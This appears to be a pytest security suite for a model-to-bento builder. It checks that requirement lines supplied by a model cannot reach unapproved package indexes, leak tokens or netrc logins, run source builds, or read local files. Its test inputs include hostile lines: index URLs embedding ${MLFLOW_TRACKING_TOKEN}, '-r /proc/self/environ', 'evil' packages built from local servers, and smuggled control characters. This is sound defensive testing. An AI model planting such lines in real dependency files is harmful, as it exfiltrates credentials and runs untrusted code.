"""What a model asks of the installer is done only as far as the user allows it."""

from __future__ import annotations

import hashlib
import re
import shutil
from dataclasses import replace
from importlib.metadata import version
from pathlib import Path
from typing import TYPE_CHECKING

import packed_models as samples
import pytest
from package_index import Index, package_index, project
from packaging.requirements import Requirement

from kfp_bento.runtime.bentos import build_bento
from kfp_bento.runtime.bentos.lock import (
    bento_indexes,
    bento_requirements,
    index_options,
    lock_requirements,
    requirement_texts,
    users_requirements,
)
from kfp_bento.runtime.errors import BentoError, InvalidInput, KfpBentoError
from kfp_bento.runtime.models import load_model
from kfp_bento.runtime.requirements import allowed_sources, read_requirements

if TYPE_CHECKING:
    from collections.abc import Iterator


BENTOML = version("bentoml")
SECRET = "s3cr3t-T0ken"


@pytest.fixture(scope="module")
def echo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return samples.save_echo(tmp_path_factory.mktemp("m") / "echo").directory


@pytest.fixture
def index() -> Iterator[Index]:
    with package_index() as found:
        yield found


@pytest.fixture
def model(echo: Path, tmp_path: Path, index: Index, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A model that can be changed; the configured index has what every bento needs."""
    for name in ("mlflow_skinny", "numpy", "pandas", "bentoml"):
        index.has_wheel(name, BENTOML if name == "bentoml" else "9.9")
    monkeypatch.setenv("UV_DEFAULT_INDEX", index.simple)
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
    (tmp_path / "netrc").write_text(f"default login robot password {SECRET}\n")
    (tmp_path / "netrc").chmod(0o600)
    monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
    shutil.copytree(echo, tmp_path / "model")
    return tmp_path / "model"


def refusal(model: Path, tmp_path: Path, **options: object) -> str:
    """What the refusal of a bento says."""
    with pytest.raises(KfpBentoError) as refused:
        build_bento([load_model(model)], tmp_path / "bento", **options)  # type: ignore[arg-type]
    assert not (tmp_path / "bento").exists()
    assert refused.value.hint
    assert SECRET not in str(refused.value)
    return str(refused.value)


def asks(model: Path, place: str, *lines: str) -> None:
    """Puts lines where models have them."""
    if place == "requirements.txt":
        (model / place).write_text("".join(f"{line}\n" for line in ("mlflow==9.9", *lines)))
    elif place == "constraints.txt":
        (model / "requirements.txt").write_text("mlflow==9.9\n-c constraints.txt\n")
        (model / place).write_text("".join(f"{line}\n" for line in lines))
    elif place == "conda.yaml":
        (model / "requirements.txt").unlink()
        quoted = "".join(f"  - {line!r}\n" for line in ("mlflow==9.9", *lines))
        (model / place).write_text(f"dependencies:\n- python=3.11\n- pip:\n{quoted}")
    else:
        text = (model / "MLmodel").read_text()
        kept = re.sub(r"(?m)^mlflow_version:.*\n", "", text)
        quoted = "\\n".join(("9.9", *lines))
        (model / "MLmodel").write_text(f'{kept}mlflow_version: "{quoted}"\n')
        (model / "requirements.txt").write_text("numpy\n")


PLACES = ["requirements.txt", "constraints.txt", "conda.yaml", "MLmodel"]


@pytest.mark.parametrize("place", PLACES)
def test_a_model_cannot_send_variables_of_the_environment_away(
    model: Path, tmp_path: Path, index: Index, place: str
) -> None:
    asks(model, place, f"--extra-index-url {index.address}/${{MLFLOW_TRACKING_TOKEN}}/simple")
    refusal(model, tmp_path)
    assert not [path for path in index.paths if SECRET in path]


@pytest.mark.parametrize("place", PLACES)
def test_a_model_cannot_choose_an_index(
    model: Path, tmp_path: Path, index: Index, place: str
) -> None:
    with package_index() as other:
        asks(model, place, f"--extra-index-url {other.simple}")
        said = refusal(model, tmp_path)
        assert other.arrived == []
    if place != "MLmodel":
        assert f"--allow-source {other.simple}" in said


@pytest.mark.parametrize("place", PLACES)
def test_a_model_cannot_send_logins_to_a_server(
    model: Path, tmp_path: Path, index: Index, place: str
) -> None:
    asks(model, place, f"evil @ {index.has_wheel('evil')}")
    refusal(model, tmp_path)
    assert not [account for _, account in index.arrived if account]
    assert not [path for path in index.paths if "evil" in path]


@pytest.mark.parametrize("place", ["requirements.txt", "conda.yaml"])
def test_a_model_cannot_have_code_built_from_a_server(
    model: Path, tmp_path: Path, index: Index, place: str
) -> None:
    marker = tmp_path / "ran"
    asks(
        model,
        place,
        "--only-binary :none:",
        "--no-binary evil",
        f"evil @ {index.has_sources('evil', str(marker))}",
    )
    refusal(model, tmp_path)
    assert not marker.exists()


@pytest.mark.parametrize(
    "line", ["-e ../evil", "../evil", "evil @ file://{evil}", "--editable={evil}"]
)
def test_a_model_cannot_have_code_built_from_a_folder(
    model: Path, tmp_path: Path, line: str
) -> None:
    marker, evil = tmp_path / "ran", tmp_path / "evil"
    evil.mkdir()
    for name, text in project(str(marker)).items():
        (evil / name).write_text(text)
    # uv reads relative paths from the scratch directory beside the bento.
    asks(
        model,
        "requirements.txt",
        "--only-binary :none:",
        "--no-binary evil",
        line.format(evil=evil),
    )
    refusal(model, tmp_path)
    assert not marker.exists()


@pytest.mark.parametrize("option", ["-r", "-c", "--requirement=", "--constraint="])
def test_files_of_this_machine_are_not_quoted(model: Path, tmp_path: Path, option: str) -> None:
    (tmp_path / "secret.txt").write_text(f"password={SECRET}\n")
    asks(model, "requirements.txt", f"{option} {tmp_path}/secret.txt")
    refusal(model, tmp_path)
    asks(model, "requirements.txt", f"{option} /proc/self/environ")
    refusal(model, tmp_path)


@pytest.mark.parametrize(
    "line",
    [
        "-r more.txt",
        "-rmore.txt",
        "six --config-settings=x=y",
        "six -r more.txt",
        "six \\\n-r more.txt",
        "six \\\n\n--index-url=https://x.invalid",
        "git+https://git.invalid/team/thing@0123456789012345678901234567890123456789",
        "thing @ git+ssh://git@git.invalid/thing",
        "thing @ hg+https://hg.invalid/thing",
        "thing@GIT+https://git.invalid/thing",
        "https://wheels.invalid/six-1.0-py3-none-any.whl",
        "six @ https://wheels.invalid/six-1.0.tar.gz",
        "six @ https://wheels.invalid/other-1.0-py3-none-any.whl",
        "six @ ftp://wheels.invalid/six-1.0-py3-none-any.whl",
        "six @ wheels/six-1.0-py3-none-any.whl",
        "six @ https://user:pass@wheels.invalid/six-1.0-py3-none-any.whl",
        "wheels/six-1.0-py3-none-any.whl",
        "code\\six-1.0-py3-none-any.whl",
        "C:\\six-1.0-py3-none-any.whl",
        "numpy @ file:///croot/numpy_1668593735768/work",
        "--no-index",
        "--no-binary=:all:",
        "--find-links https://wheels.invalid/x.html",
        "-f /srv/wheels",
        "--index-url ${INDEX}",
        "six\x0b-r more.txt",
        "six\x0c",
        "six\x85-r more.txt",
        "six\u2028-r more.txt",
        "six\x00",
        "s\u0131x",
        "six; python_version > '3' or '\"'",
        "six==" + "9" * 5000,
        "six; " + "(" * 900,
        "six; " + "(" * 900 + "python_version > '3'" + ")" * 900,
        "x" * 5000,
        "--pre-",
        "-",
        "six, numpy",
    ],
)
def test_everything_but_names_and_versions_is_refused(
    model: Path, tmp_path: Path, index: Index, line: str
) -> None:
    loaded = replace(load_model(model), requirements=("mlflow==9.9", *line.split("\n")))
    with pytest.raises(BentoError, match="The requirement ") as refused:
        bento_requirements([loaded])
    assert refused.value.hint
    assert "pass@" not in str(refused.value)
    assert index.arrived == []


def test_a_settings_file_of_somebody_else_chooses_no_index(
    tmp_path: Path, index: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.has_wheel("thing")
    with package_index() as other:
        other.has_wheel("thing", "6.6.6")
        settings = f'find-links = ["{other.simple}/thing/"]\n'
        (tmp_path / "uv.toml").write_text(settings)
        (tmp_path / "inner").mkdir()
        (tmp_path / "inner" / "pyproject.toml").write_text(
            f'[project]\nname = "x"\nversion = "1"\n[tool.uv]\n{settings}'
        )
        (tmp_path / "inner" / ".python-version").write_text("2.7\n")
        (tmp_path / ".env").write_text(f"UV_DEFAULT_INDEX={other.simple}\n")
        monkeypatch.setenv("UV_CONFIG_FILE", str(tmp_path / "uv.toml"))
        monkeypatch.setenv("UV_ENV_FILE", str(tmp_path / ".env"))
        monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
        monkeypatch.setenv("UV_DEFAULT_INDEX", index.simple)
        lock = lock_requirements(["thing"], [], "3.11", tmp_path / "inner")
        assert other.arrived == []
    assert lock.startswith("thing==1.0 ")


def test_an_index_that_the_user_allows_is_asked_without_any_account(
    model: Path, tmp_path: Path
) -> None:
    with package_index() as other:
        other.has_wheel("special")
        with_account = other.simple.replace("//", "//robot:hunter2@")
        asks(model, "requirements.txt", f"--extra-index-url {with_account}", "special")
        loaded, sources = [load_model(model)], allowed_sources([f"{other.address}/simple/"])
        wanted, indexes = bento_requirements(loaded, (), sources), bento_indexes(loaded, sources)
        lock = lock_requirements(wanted, [], "3.11", tmp_path, indexes)
        assert "/simple/special/" in other.paths
        # Neither the account of the line, nor the netrc file's `default`.
        assert {account for _, account in other.arrived} == {""}
    assert "special==1.0 " in lock
    assert "hunter2" not in lock
    # Over http it is for the user to configure once more where the image is built.
    assert "127.0.0.1" not in lock


def test_an_index_that_is_allowed_over_https_is_named_in_the_lock(model: Path) -> None:
    asks(model, "requirements.txt", "--extra-index-url https://wheels.invalid/whl/cpu")
    sources = allowed_sources(["https://wheels.invalid/whl"])
    options = bento_indexes([load_model(model)], sources)
    assert options == ["--extra-index-url=https://wheels.invalid/whl/cpu"]


def test_an_index_that_is_configured_is_no_news(
    model: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UV_INDEX", "internal=https://me:pass@wheels.invalid/simple")
    asks(model, "requirements.txt", "--extra-index-url https://wheels.invalid/simple/", "six")
    loaded = [load_model(model)]
    assert "six" in bento_requirements(loaded)
    assert bento_indexes(loaded) == []


def test_a_wheel_at_an_allowed_address_is_locked_with_its_hash(model: Path, tmp_path: Path) -> None:
    with package_index() as other:
        place = other.has_wheel("special", requires=["numpy"])
        asks(model, "requirements.txt", f"special @ {place}")
        wanted = bento_requirements([load_model(model)], (), allowed_sources([other.address]))
        lock = lock_requirements(wanted, [], "3.11", tmp_path)
        assert {account for _, account in other.arrived} == {""}
        digest = hashlib.sha256(other.files["special-1.0-py3-none-any.whl"]).hexdigest()
    assert f"special @ {place} \\\n    --hash=sha256:{digest}\n" in lock
    assert list(tmp_path.glob("lock-*")) == []


@pytest.mark.parametrize(
    "needed",
    [
        "evil @ {there}/${{MLFLOW_TRACKING_TOKEN}}/evil-1.0-py3-none-any.whl",
        "evil @ {there}/evil-1.0.tar.gz",
        "evil @ git+{there}/evil",
        "evil\n @ {there}/evil-1.0-py3-none-any.whl",
    ],
)
def test_a_wheel_cannot_ask_for_more_than_the_model_may(
    model: Path, tmp_path: Path, needed: str
) -> None:
    with package_index() as other:
        place = other.has_wheel("special", requires=[needed.format(there=other.address)])
        asks(model, "requirements.txt", f"special @ {place}")
        wanted = bento_requirements([load_model(model)], (), allowed_sources([other.address]))
        with pytest.raises(BentoError, match="requires a package by address"):
            lock_requirements(wanted, [], "3.11", tmp_path)
        assert other.paths == ["/files/special-1.0-py3-none-any.whl"]


def test_a_wheel_of_an_index_cannot_either(model: Path, tmp_path: Path, index: Index) -> None:
    index.has_wheel("six", requires=[f"evil @ {index.address}/${{HOME}}/evil-1.0.tar.gz"])
    with pytest.raises(BentoError):
        lock_requirements(["six"], [], "3.11", tmp_path)
    assert not [path for path in index.paths if "evil" in path]


def test_a_redirection_leads_to_no_other_login(
    model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "netrc").write_text(f"machine 127.0.0.1 login robot password {SECRET}\n")
    with package_index() as first, package_index() as second:
        filename = second.has_wheel("special").rpartition("/")[2]
        first.leads[f"/files/{filename}"] = second.offers(filename)
        wanted = [f"special @ {first.offers(filename)}"]
        lock = lock_requirements(wanted, [], "3.11", tmp_path)
        assert [bool(account) for _, account in first.arrived] == [True]
        assert [bool(account) for _, account in second.arrived] == [False]
    assert first.offers(filename) in lock


def test_requirements_of_the_user_are_names_and_wheels(model: Path, tmp_path: Path) -> None:
    for line in ("-e .", "--index-url https://x.invalid", "six @ http://x.invalid/six.whl"):
        with pytest.raises(BentoError, match="of the build"):
            build_bento([load_model(model)], tmp_path / "bento", requirements=[line])
    lines = ["six>=1", "six @ https://x.invalid/six-1.0-py3-none-any.whl"]
    found = users_requirements(lines, "the build", indexes=False)
    assert requirement_texts(found) == lines


def test_a_service_of_the_user_may_name_indexes() -> None:
    lines = ["--index-url=https://x.invalid/simple", "--trusted-host x.invalid", "six"]
    found = users_requirements(lines, "the service", indexes=True)
    assert index_options(found) == ["--extra-index-url=https://x.invalid/simple"]
    for line in ("--index-url https://u:hunter2@x.invalid", "--index-url https://${HOST}/simple"):
        with pytest.raises(BentoError, match="of the service") as refused:
            users_requirements([line], "the service", indexes=True)
        assert "hunter2" not in str(refused.value)


def test_a_wheel_that_is_not_allowed_is_refused_with_what_allows_it() -> None:
    line = "six @ https://wheels.invalid/six-1.0-py3-none-any.whl"
    with pytest.raises(BentoError, match="which is not allowed") as refused:
        read_requirements([line], whose="the model", error=BentoError)
    assert "--allow-source https://wheels.invalid/six-1.0-py3-none-any.whl" in refused.value.hint
    allowed = allowed_sources(["https://wheels.invalid/six-1.0-py3-none-any.whl"])
    assert read_requirements([line], whose="the model", error=BentoError, sources=allowed).lines


@pytest.mark.parametrize(
    "source",
    ["ftp://x/", "https://u:p@x.invalid/", "x.invalid", "git+ssh://x.invalid/", "https://"],
)
def test_a_source_that_is_none_cannot_be_allowed(model: Path, tmp_path: Path, source: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        build_bento([load_model(model)], tmp_path / "bento", allow_sources=[source])
    assert refused.value.hint
    assert "u:p" not in str(refused.value)


REAL = {
    "markers": ["pywin32==306; sys_platform == 'win32'", 'colorama ; platform_system == "Windows"'],
    "range": ["mlflow<4,>=3.1", "scikit-learn==1.9.1"],
    "local version": ["torch==2.1.0+cu118"],
    "extras": ["uvicorn[standard] >= 0.20 ,<1", "transformers [torch, sentencepiece]"],
    "comments": ["mlflow==3.17.2  # pinned", "scikit-learn==1.9.1 # also", "# whole line", ""],
    "names": ["MLflow==3.17.2", "Scikit_Learn==1.9.1", "ruamel.yaml"],
    "versions": ["a~=1.4", "b!=1.*", "c===1.0-weird", "d (>=1)", "e==1!2.0.post1.dev3"],
    "hashes": ["six==1.17.0 \\", f"    --hash=sha256:{'0' * 64} \\", f"--hash=sha256:{'1' * 64}"],
    "idle options": ["--pre", "--prefer-binary", "--trusted-host x.invalid", "--only-binary :all:"],
    "constraints": ["-c constraints.txt", "six"],
    "white space": ["  six\t==1.0  ", "\tnumpy"],
}


@pytest.mark.parametrize("lines", REAL.values(), ids=REAL.keys())
def test_lines_that_people_log_pass(model: Path, lines: list[str]) -> None:
    loaded = replace(load_model(model), requirements=tuple(lines))
    found = bento_requirements([loaded])
    assert all(str(Requirement(line.partition(" --hash")[0])) for line in found)
